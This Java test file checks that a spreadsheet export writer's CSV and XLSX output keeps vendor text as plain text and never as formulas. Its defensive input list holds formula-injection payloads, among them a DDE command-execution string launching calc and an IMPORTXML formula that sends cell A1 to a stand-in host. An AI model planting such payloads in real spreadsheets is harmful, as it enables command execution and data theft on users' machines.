package dev.kikilist.spreadsheet;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import dev.kikilist.equipment.CellAddress;
import dev.kikilist.equipment.EquipmentItem;
import dev.kikilist.equipment.FormCell;
import dev.kikilist.equipment.Subcontractor;
import dev.kikilist.export.ExportFormat;
import dev.kikilist.export.ListContent;
import dev.kikilist.testkit.office.LibreOffice;
import dev.kikilist.text.SpreadsheetText;
import dev.kikilist.validation.Finding;
import dev.kikilist.validation.FindingCode;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.usermodel.WorkbookFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIf;
import org.junit.jupiter.api.io.TempDir;

/** Whatever a vendor wrote comes out as the text that it was, and never as a formula. */
class SpreadsheetExportWriterTest {
    private static final long SEED = 20261126;

    private static final List<String> HOSTILE = List.of(
            "=1+1",
            "＝1+1",
            "+1",
            "＋1",
            "-2+3",
            "－2+3",
            "@SUM(1)",
            "＠SUM(1)",
            "\t=1+1",
            "  =1+1",
            "\u3000=1+1",
            "\u00A0+1",
            "\r=1+1",
            "\n=1+1",
            "\"=1+1\"",
            "'=1+1",
            "\"\"",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://example.invalid\",\"x\")",
            "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")",
            "=DDE(\"soffice\",\"x\",\"A1\")",
            "{=1+1}",
            "%=1",
            "|=1",
            "a,=1+1",
            "a\",=1+1",
            "a\r\n=1+1",
            "a;=1+1",
            "a\t=1+1",
            "#REF!",
            "#N/A",
            "TRUE",
            "1E5",
            "0123",
            "1-2",
            "2026/11/26",
            "1010401900101",
            "7.01E+12",
            "_x0041_",
            "<b>&amp;</b>",
            "]]>",
            "𠮷野家 髙﨑",
            " leading and trailing ",
            "-",
            "１２３");

    private final SpreadsheetExportWriter writer = new SpreadsheetExportWriter();

    @TempDir
    private Path directory;

    @Test
    void csvHasAllRowsWithTheSameFields() throws IOException {
        var file = written(ExportFormat.CSV, content(List.of("甲", "乙")));
        var records = records(file);

        assertThat(Files.readString(file)).startsWith("\uFEFF\"一覧\",\"法人名\",").endsWith("\r\n");
        assertThat(records)
                .hasSize(1 + 3 * 2)
                .allMatch(record -> record.size() == records.getFirst().size());
        assertThat(records.getFirst()).doesNotHaveDuplicates();
        assertThat(value(records, 1, "一覧")).isEqualTo("機器等一覧");
        assertThat(value(records, 1, "型番")).isEqualTo("甲");
        assertThat(value(records, 1, "その他の列")).isEqualTo("甲：甲");
        assertThat(value(records, 1, "行")).isEqualTo("12");
        assertThat(value(records, 4, "一覧")).isEqualTo("再委託等一覧");
        assertThat(value(records, 4, "作業場所")).isEqualTo("乙");
        assertThat(value(records, 5, "一覧")).isEqualTo("指摘一覧");
        assertThat(value(records, 5, "判定")).isEqualTo("要修正");
        assertThat(value(records, 5, "セル")).isEqualTo("E12");
        assertThat(value(records, 5, "提案する値")).isEqualTo("甲");
    }

    @Test
    void noFieldOfCsvBeginsLikeAFormula() throws IOException {
        for (var record : records(written(ExportFormat.CSV, content(hostile())))) {
            assertThat(record).noneMatch(SpreadsheetText::looksLikeFormula);
        }
    }

    @Test
    void xlsxHasASheetForEachTable() throws IOException {
        try (var workbook = workbook(written(ExportFormat.XLSX, content(List.of("甲"))))) {
            assertThat(IntStream.range(0, 3).mapToObj(workbook::getSheetName))
                    .containsExactly("機器等一覧", "再委託等一覧", "指摘一覧");
            assertThat(workbook.getSheetAt(0).getPaneInformation().isFreezePane())
                    .isTrue();
            assertThat(workbook.getSheetAt(2).getRow(1).getCell(1).getStringCellValue())
                    .isEqualTo("E120");
        }
    }

    @Test
    void everyCellOfXlsxIsTheTextThatWentIn() throws IOException {
        var content = content(hostile());
        try (var workbook = workbook(written(ExportFormat.XLSX, content))) {
            assertTexts(workbook, content, text -> text);
        }
    }

    @Test
    void whatXmlCannotHoldIsReplaced() {
        assertThat(XlsxExport.inXml("a\u0000\u0008\uD800b\uFFFE𠮷")).isEqualTo("a\uFFFD\uFFFD\uFFFDb\uFFFD𠮷");
        assertThat(XlsxExport.inXml("_x005F_x0041_")).isEqualTo("_x005F_x005F_x005F_x0041_");
        assertThat(XlsxExport.inXml("あ".repeat(40_000))).hasSize(32_767).endsWith("…");
    }

    @Test
    @EnabledIf("dev.kikilist.testkit.office.LibreOffice#isInstalled")
    void libreOfficeFindsTheTextsThatWentIn() throws IOException {
        var content = content(hostile());
        var xlsx = written(ExportFormat.XLSX, content);
        var csv = written(ExportFormat.CSV, content);
        var opened = Files.createDirectories(directory.resolve("opened"));
        var taken = Files.createDirectories(directory.resolve("taken"));

        LibreOffice.convert(List.of(xlsx), "xlsx", opened);
        LibreOffice.convert(List.of(csv), LibreOffice.EAGER_CSV, "xlsx", taken);

        try (var workbook = workbook(opened.resolve(xlsx.getFileName()))) {
            // It drops carriage returns in texts of several lines.
            assertTexts(workbook, content, text -> text.replace("\r", ""));
        }
        try (var workbook = workbook(taken.resolve("export.xlsx"))) {
            assertNoFormula(workbook);
            assertThat(workbook.getSheetAt(0).getLastRowNum())
                    .isEqualTo(3 * hostile().size());
        }
    }

    @Test
    void theLongestListIsWrittenInLittleMemory() throws IOException {
        int rows = 100_000;
        for (var format : ExportFormat.values()) {
            var content = new ListContent(
                    () -> IntStream.rangeClosed(1, rows)
                            .mapToObj(i -> item("型番 " + i, i))
                            .iterator(),
                    List.of(),
                    () -> IntStream.rangeClosed(1, 5_000)
                            .mapToObj(i -> finding("値 " + i, i))
                            .iterator());
            var counted = new Counted();

            writer.write(format, content, counted);

            assertThat(counted.bytes).as("%s", format).isGreaterThan(rows);
        }
    }

    private static List<String> hostile() {
        var random = new Random(SEED);
        var made = new ArrayList<>(HOSTILE);
        var leaders = List.of(" ", "\u3000", "\t", "'", "\"", "\uFEFF", "\u200B", "");
        var signs = List.of("=", "+", "-", "@", "＝", "＋", "－", "＠", "\u2212");
        for (int i = 0; i < 60; i++) {
            made.add(leaders.get(random.nextInt(leaders.size()))
                    + leaders.get(random.nextInt(leaders.size()))
                    + signs.get(random.nextInt(signs.size()))
                    + Integer.toString(random.nextInt(1_000_000), 36)
                    + "(A1)");
        }
        return made;
    }

    /** Every text in every column of every table. */
    private static ListContent content(List<String> texts) {
        var items = new ArrayList<EquipmentItem>();
        var subcontractors = new ArrayList<Subcontractor>();
        var findings = new ArrayList<Finding>();
        for (int i = 0; i < texts.size(); i++) {
            items.add(item(texts.get(i), 12 + i));
            subcontractors.add(subcontractor(texts.get(i), 4 + i));
            findings.add(finding(texts.get(i), 12 + i));
        }
        return new ListContent(items, subcontractors, findings);
    }

    private static EquipmentItem item(String text, int row) {
        var cell = cell(text, row);
        return new EquipmentItem(
                row, cell, cell, cell, null, cell, cell, null, cell, cell, new LinkedHashMap<>(Map.of(text, text)));
    }

    private static Subcontractor subcontractor(String text, int row) {
        var cell = cell(text, row);
        return new Subcontractor(row, cell, cell, cell, cell, null, cell, cell);
    }

    private static Finding finding(String text, int row) {
        return new Finding(FindingCode.E120, new CellAddress(0, text, row, 4), text, List.of(text, text, text), text);
    }

    private static FormCell cell(String text, int row) {
        return new FormCell(text, text, new CellAddress(0, text, row, 4));
    }

    private Path written(ExportFormat format, ListContent content) throws IOException {
        var file = directory.resolve("export." + format.extension());
        try (var out = Files.newOutputStream(file)) {
            writer.write(format, content, out);
        }
        return file;
    }

    private static List<List<String>> records(Path file) throws IOException {
        try (var csv =
                CsvReader.builder().ofCsvRecord(Files.readString(file, UTF_8).substring(1))) {
            return csv.stream().map(record -> List.copyOf(record.getFields())).toList();
        }
    }

    private static String value(List<List<String>> records, int row, String column) {
        return records.get(row).get(records.getFirst().indexOf(column));
    }

    private static Workbook workbook(Path file) throws IOException {
        try (InputStream in = Files.newInputStream(file)) {
            return WorkbookFactory.create(in);
        }
    }

    private static void assertTexts(
            Workbook workbook, ListContent content, java.util.function.UnaryOperator<String> compared) {
        assertNoFormula(workbook);
        var tables = ExportTable.of(content);
        for (int sheet = 0; sheet < tables.size(); sheet++) {
            var rows = rows(tables.get(sheet)).toList();
            for (int row = 0; row < rows.size(); row++) {
                var texts = rows.get(row);
                for (int column = 0; column < texts.size(); column++) {
                    var cell = workbook.getSheetAt(sheet).getRow(row + 1).getCell(column);
                    assertThat(compared.apply(cell == null ? "" : cell.getStringCellValue()))
                            .as("%s %s %s", tables.get(sheet).name(), row, column)
                            .isEqualTo(compared.apply(texts.get(column)));
                }
            }
        }
    }

    private static <T> Stream<List<String>> rows(ExportTable<T> table) {
        return java.util.stream.StreamSupport.stream(table.entries().spliterator(), false)
                .map(table.row());
    }

    private static void assertNoFormula(Workbook workbook) {
        for (var sheet : workbook) {
            for (var row : sheet) {
                for (var cell : row) {
                    assertThat(cell.getCellType()).isNotIn(CellType.FORMULA, CellType.ERROR);
                }
            }
        }
    }

    private static final class Counted extends OutputStream {
        private long bytes;

        @Override
        public void write(int b) {
            bytes++;
        }

        @Override
        public void write(byte[] from, int offset, int length) {
            bytes += length;
        }
    }
}
